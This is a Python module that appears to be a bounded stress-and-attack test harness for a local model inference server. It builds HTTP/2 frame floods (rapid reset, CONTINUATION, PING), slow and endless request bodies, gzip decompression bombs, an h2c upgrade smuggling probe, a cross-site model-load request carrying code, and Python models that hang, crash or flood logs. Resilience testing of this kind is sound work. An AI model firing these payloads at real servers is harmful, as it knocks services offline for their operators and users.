"""The attacks: each sends something to a server, bounded in number and time, and says what came of it."""

from __future__ import annotations

import gzip
import socket
import time
from collections.abc import Callable, Iterator
from concurrent.futures import ThreadPoolExecutor
from dataclasses import dataclass
from pathlib import Path

import attack_holders as holders
import attack_payloads as payloads
import psutil
from attack_clients import FrameFlood, Http2Client, frame, send_http
from servers import Server, identity_config

MIB = 1 << 20
HOLD_S = 3.0

MODELS = {
    "hangs": ("FP32", 16, "import time; time.sleep(3600)"),
    "dies": ("FP32", 16, "import os; os._exit(1)"),
    "logs": ("FP32", 16, "for _ in range(2000): pb_utils.Logger.log_info('x' * 100_000)"),
    "prints": ("FP32", 16, "for _ in range(3000): print('x' * 100_000)"),
    "echo": ("FP32", -1, "pass"),
    "texts": ("BYTES", -1, "pass"),
}
"""Python models: the type and number of elements of what they give back, and what they do before."""

MODEL_PY = """import triton_python_backend_utils as pb_utils


class TritonPythonModel:
    def execute(self, requests):
        DEED
        inputs = [pb_utils.get_input_tensor_by_name(request, "INPUT0") for request in requests]
        return [pb_utils.InferenceResponse([pb_utils.Tensor("OUTPUT0", each.as_numpy())]) for each in inputs]
"""


def write_models(repository: Path, names: tuple[str, ...]) -> None:
    """The Python models `names`, one instance each."""
    for name in names:
        datatype, dims, deed = MODELS[name]
        (repository / name / "1").mkdir(parents=True)
        (repository / name / "1" / "model.py").write_text(MODEL_PY.replace("DEED", deed))
        text = identity_config(name, "python", dims, 8)
        (repository / name / "config.pbtxt").write_text(
            text.replace("FP32", "STRING" if datatype == "BYTES" else "FP32")
        )


Run = Callable[[Server], str]


@dataclass(frozen=True)
class Attack:
    """One attack.

    Attributes:
        name: what is done.
        run: does it, and says what came of it.
        models: Python models that it needs.
        flags: of the server.
    """

    name: str
    run: Run
    models: tuple[str, ...] = ()
    flags: tuple[str, ...] = ()


# ---- one request over HTTP ----


def http(model: str, head: bytes, blob: bytes = b"", encoding: str | None = None) -> Run:
    """Sends an infer request."""
    request = payloads.infer_request(model, head, blob, encoding=encoding)
    return lambda server: send_http(server.http_port, request)


def endless_body(path: str, *, chunked: bool = False) -> Run:
    """A body that is said to have 10^12 bytes, or does not say; 1,200 MiB of it are sent if the server takes them."""
    framing = ("Transfer-Encoding", "chunked") if chunked else ("Content-Length", str(10**12))
    head = payloads.http_request("POST", path, [framing])

    def run(server: Server) -> str:
        body: Iterator[bytes] = payloads.pieces(1200 * MIB)
        if chunked:
            body = (b"100000\r\n" + piece + b"\r\n" for piece in body)
        return send_http(server.http_port, head, body, within_s=15)

    return run


def endless_http2(server: Server) -> str:
    """The same over HTTP/2."""
    client = Http2Client(server.http_port)
    stream_id = client.open("/v2/models/small/infer", [("content-length", str(10**12))])
    piece = bytes(16 * MIB)
    sent = 0
    ends_s = time.monotonic() + 15
    while sent < 600 * MIB and (more := client.send(stream_id, piece, end=False, within_s=ends_s - time.monotonic())):
        sent += more
    outcome = client.outcome(stream_id, 1)
    client.close()
    return f"{outcome} after {sent // MIB} MiB"


def expects_continue(server: Server) -> str:
    """Asks for leave to send 10^12 bytes."""
    head = payloads.http_request(
        "POST", "/v2/models/small/infer", [("Content-Length", str(10**12)), ("Expect", "100-continue")]
    )
    return send_http(server.http_port, head, within_s=5)


# ---- many at a time ----


def unfinished_bodies(server: Server) -> str:
    """40 bodies of 64 MiB, of each of which the last byte is missing, held for a while."""
    request = payloads.http_request("POST", "/v2/models/small/infer", [("Content-Length", str(64 * MIB))])

    def hold(_index: int) -> int:
        with socket.create_connection(("127.0.0.1", server.http_port), 10) as client:
            client.settimeout(HOLD_S)
            sent = 0
            try:
                client.sendall(request)
                for piece in payloads.pieces(63 * MIB):
                    client.sendall(piece)
                    sent += len(piece)
            except OSError:
                pass
            time.sleep(HOLD_S)
        return sent

    with ThreadPoolExecutor(40) as threads:
        sent = sum(threads.map(hold, range(40)))
    return f"{sent // MIB} MiB taken in"


def unfinished_messages(server: Server) -> str:
    """16 calls on one gRPC connection, of 128 MiB each, all but the last byte sent."""
    client = Http2Client(server.grpc_port or 0)
    prefix = b"\0" + (128 * MIB).to_bytes(4, "big")
    streams = [client.open_grpc() for _ in range(16)]
    sent = sum(client.send(stream_id, prefix + bytes(112 * MIB), end=False, within_s=1) for stream_id in streams)
    time.sleep(HOLD_S)
    client.close()
    return f"{sent // MIB} MiB taken in"


def hung_model(server: Server) -> str:
    """700 requests to a model that hangs; then one to another model, over HTTP and gRPC."""
    request = payloads.infer_request("hangs", *payloads.small_infer())
    clients = []
    for _ in range(700):
        clients.append(socket.create_connection(("127.0.0.1", server.http_port), 5))
        clients[-1].sendall(request)
    time.sleep(1)
    over_http = send_http(server.http_port, payloads.infer_request("small", *payloads.small_infer()), within_s=3)
    over_grpc = one_call(payloads.grpc_small("small"), server, within_s=3)
    for client in clients:
        client.close()
    return f"another model: {over_http}, {over_grpc}"


# ---- gRPC ----


def one_call(message: bytes, server: Server, *, packed: bool = False, within_s: float = 30) -> str:
    """How a call of ModelInfer ends."""
    client = Http2Client(server.grpc_port or 0)
    stream_id = client.open_grpc(encoding="gzip" if packed else None)
    client.send(stream_id, payloads.grpc_frame(message, packed=packed), within_s=within_s)
    outcome = client.outcome(stream_id, within_s)
    client.close()
    return outcome


def grpc(message: bytes, *, packed: bool = False) -> Run:
    """Calls ModelInfer with a message."""
    return lambda server: one_call(message, server, packed=packed)


def late_settings(server: Server) -> str:
    """The first connection after the start, whose SETTINGS come 0.35 s after its preface: is a PING answered?"""
    with socket.create_connection(("127.0.0.1", server.grpc_port or 0), 5) as client:
        client.settimeout(2)
        client.sendall(FrameFlood.PREFACE)
        time.sleep(0.35)
        ping = frame(6, 1, 0, b"anyone??")
        received = b""
        try:
            client.sendall(frame(4, 0, 0) + frame(6, 0, 0, b"anyone??"))
            while ping not in received and (more := client.recv(1000)):
                received += more
        except OSError:
            pass
    return "served" if ping in received else "dropped"


# ---- floods of HTTP/2 frames ----


def flood(burst: Callable[[int], bytes], name: str, bursts: int = 1000) -> Run:
    """Sends `bursts` of 100 frames; how the connection ends."""

    def run(server: Server) -> str:
        port = server.http_port if name == "HTTP/2" else server.grpc_port or 0
        return FrameFlood(port).send(burst(index) for index in range(bursts))

    return run


_HEAD = bytes((0x83, 0x86, 0x84)) + b"\x41\x09localhost"
"""POST, http, /, and an authority, as HPACK writes them."""


def resets(index: int) -> bytes:
    first = 1 + 200 * index
    return b"".join(frame(1, 4, each, _HEAD) + frame(3, 0, each, bytes(4)) for each in range(first, first + 200, 2))


def settings(_index: int) -> bytes:
    return frame(4, 0, 0) * 100


def pings(_index: int) -> bytes:
    return frame(6, 0, 0, bytes(8)) * 100


def empty_data(index: int) -> bytes:
    return (frame(1, 4, 1, _HEAD) if index == 0 else b"") + frame(0, 0, 1) * 100


def priorities(index: int) -> bytes:
    first = 1 + 200 * index
    return b"".join(frame(2, 0, each + 2, each.to_bytes(4, "big") + b"\0") for each in range(first, first + 200, 2))


def continuations(index: int) -> bytes:
    return frame(1, 0, 1, _HEAD) if index == 0 else frame(9, 0, 1, b"\0\x01a\x01b" * 100) * 10


# ---- requests that mean something else than they seem to ----


def smuggled(server: Server) -> str:
    """A request that asks to go on in HTTP/2, where no proxy in front of the server reads along."""
    upgrade = b"Connection: Upgrade, HTTP2-Settings\r\nUpgrade: h2c\r\nHTTP2-Settings: AAMAAABkAAQAAP__\r\n"
    with socket.create_connection(("127.0.0.1", server.http_port), 5) as client:
        client.sendall(b"GET /v2/health/live HTTP/1.1\r\nHost: localhost\r\n" + upgrade + b"\r\n")
        client.settimeout(2)
        return client.recv(1000).split(b"\r\n")[0].decode()


def cross_site(server: Server) -> str:
    """What a web page can send: a load of code, without a preflight request."""
    body = b'{"parameters":{"config":"{\\"backend\\":\\"python\\"}","file:1/model.py":"cHJpbnQoMSk="}}'
    headers = [
        ("Content-Type", "text/plain"),
        ("Origin", "https://elsewhere.example"),
        ("Sec-Fetch-Site", "cross-site"),
    ]
    request = payloads.http_request("POST", "/v2/repository/models/evil/load", headers, body)
    return send_http(server.http_port, request)


def bad_chunk(server: Server) -> str:
    """A malformed chunk in the head's segment: how long until the answer?"""
    begun_s = time.monotonic()
    head = payloads.http_request("POST", "/v2/models/small/infer", [("Transfer-Encoding", "chunked")])
    status = send_http(server.http_port, head + b"zz\r\n", within_s=5)
    return f"{status} after {time.monotonic() - begun_s:.1f} s"


def two_hosts(server: Server) -> str:
    """Which of two `Host` headers holds?"""
    return send_http(server.http_port, b"GET /v2/health/live HTTP/1.1\r\nHost: a\r\nHost: b\r\n\r\n", within_s=5)


def long_frame(server: Server) -> str:
    """The header of a frame of 16 MiB."""
    return FrameFlood(server.http_port).send([(MIB * 16 - 1).to_bytes(3, "big") + bytes((0, 0, 0, 0, 0, 1))], 3)


# ---- Python models ----


def poisonous(server: Server) -> str:
    """Eight requests that end their model's process; what is said of the model a while later?"""
    request = payloads.infer_request("dies", *payloads.small_infer())
    said = [send_http(server.http_port, request, within_s=10) for _ in range(8)]
    time.sleep(2)
    ready = send_http(server.http_port, payloads.http_request("GET", "/v2/models/dies/ready", []))
    return f"answers {' '.join(sorted(set(said)))}, ready {ready}"


def talkative(model: str) -> Run:
    """A model that says much; how many descriptors the server has more afterwards."""

    def run(server: Server) -> str:
        before = server.process.num_fds()
        status = send_http(server.http_port, payloads.infer_request(model, *payloads.small_infer()), within_s=25)
        return f"{status}, descriptors {server.process.num_fds() - before:+d}"

    return run


def stop_with_idle_connection(server: Server) -> str:
    """SIGTERM while a connection is idle that has asked before."""
    with socket.create_connection(("127.0.0.1", server.http_port), 5) as client:
        client.sendall(b"GET /v2/health/live HTTP/1.1\r\nHost: localhost\r\n\r\n")
        client.recv(1000)
        begun_s = time.monotonic()
        server.process.terminate()
        try:
            server.process.wait(40)
        except psutil.TimeoutExpired:
            return "still there after 40 s"
    return f"ended after {time.monotonic() - begun_s:.1f} s"


def nothing(_server: Server) -> str:
    """For comparison: what the second client sees without an attack."""
    time.sleep(2)
    return ""


_INFER = "/v2/models/small/infer"
_EXPLICIT = ("--model-control-mode", "explicit", "--load-model", "*")
_FLOODS = {
    "resets": resets,
    "SETTINGS": settings,
    "PING": pings,
    "empty DATA": empty_data,
    "PRIORITY chains": priorities,
    "CONTINUATION": continuations,
}


def attacks() -> Iterator[Attack]:
    """All of them. What each sends is built when it is its turn, and not kept."""
    yield Attack("no attack", nothing)
    yield from _bombs()
    yield Attack("HTTP: 10^12 bytes to infer", endless_body(_INFER))
    yield Attack("HTTP: 10^12 bytes to an unknown model", endless_body("/v2/models/unknown/infer"))
    yield Attack("HTTP: 10^12 bytes to load", endless_body("/v2/repository/models/small/load"))
    yield Attack("HTTP, chunked: bytes without end to infer", endless_body(_INFER, chunked=True))
    yield Attack("HTTP, chunked: bytes without end to log settings", endless_body("/v2/logging", chunked=True))
    yield Attack("HTTP/2: 10^12 bytes to infer", endless_http2)
    yield Attack("HTTP: 100-continue for 10^12 bytes", expects_continue)
    yield Attack("HTTP: 40 unfinished bodies of 64 MiB", unfinished_bodies)
    yield Attack("HTTP: 3,000 unfinished bodies of 64 KB", holders.held_by_many(holders.unfinished_body))
    yield Attack("HTTP: 3,000 unfinished heads of 1,000 headers", holders.held_by_many(holders.unfinished_head))
    yield Attack("HTTP: 3,000 times 1,500 requests at once, unread", holders.held_by_many(holders.pipelined))
    yield Attack("HTTP: slow bodies from one address", holders.slow_large_bodies, ("echo",))
    yield Attack("HTTP: 60 unread answers of 8 MiB", holders.unread_http, ("echo",))
    yield Attack("gRPC: 12 unread streams of 80 MiB", holders.unread_grpc("ModelStreamInfer"), ("echo",))
    yield Attack("gRPC: 960 unread answers of 1 MiB", holders.unread_grpc("ModelInfer"), ("echo",))
    yield Attack("gRPC: 16 unfinished messages of 128 MiB", unfinished_messages)
    yield Attack("700 requests to a model that hangs", hung_model, ("hangs",), ("--max-inflight-requests", "500"))
    for name in ("HTTP/2", "gRPC"):
        for what, burst in _FLOODS.items():
            yield Attack(f"{name}: {what}", flood(burst, name))
    yield Attack("HTTP: Upgrade to h2c", smuggled)
    yield Attack("HTTP: load of code from another site", cross_site, flags=_EXPLICIT)
    yield Attack("gRPC: SETTINGS 0.35 s after the preface", late_settings)
    yield Attack("HTTP: malformed chunk", bad_chunk)
    yield Attack("HTTP: two Host headers", two_hosts)
    yield Attack("HTTP/2: header of an oversized frame", long_frame)
    yield Attack("Python model: eight requests that kill it", poisonous, ("dies",))
    yield Attack("Python model: 2,000 log lines of 100 KB", talkative("logs"), ("logs",))
    yield Attack("Python model: prints 300 MB", talkative("prints"), ("prints",))
    yield Attack("stop with an idle connection", stop_with_idle_connection)


def _bombs() -> Iterator[Attack]:
    """Single requests that grow when they are read."""
    zeros = payloads.gzip_repeated(b"", b"\0", 1 << 30, b"")
    texts = ("texts",)
    yield Attack("HTTP, gzip: 150,000 dimensions", http("small", payloads.many_dims(), encoding="gzip"))
    yield Attack("gRPC: 150,000 dimensions", grpc(payloads.grpc_many_dims("small")))
    yield Attack("HTTP, gzip: nested lists, 63 MiB", http("small", payloads.nested_lists(63 * MIB), encoding="gzip"))
    yield Attack("HTTP: duplicate keys, 16 MiB", http("small", payloads.duplicate_keys(16 * MIB)))
    yield Attack("HTTP: bytes that are no UTF-8, 8 MiB", http("small", payloads.not_utf8(8 * MIB)))
    yield Attack("HTTP: 20 million empty BYTES in JSON", http("texts", payloads.empty_strings_json(20 << 20)), texts)
    yield Attack(
        "HTTP: 16.5 million empty BYTES, binary", http("texts", *payloads.empty_strings_binary(16_500_000)), texts
    )
    yield Attack("HTTP, gzip: 1 MB to 1 GiB", http("small", zeros, encoding="gzip"))
    yield Attack("gRPC, gzip: 1 MB to 1 GiB", grpc(zeros, packed=True))
    contents = gzip.compress(payloads.grpc_empty_strings("texts", 4_200_000))
    yield Attack("gRPC, gzip: 4.2 million bytes_contents", grpc(contents, packed=True), texts)
    yield Attack(
        "HTTP: all classes of 2 million numbers", http("echo", *payloads.classification(2, 1_000_000)), ("echo",)
    )
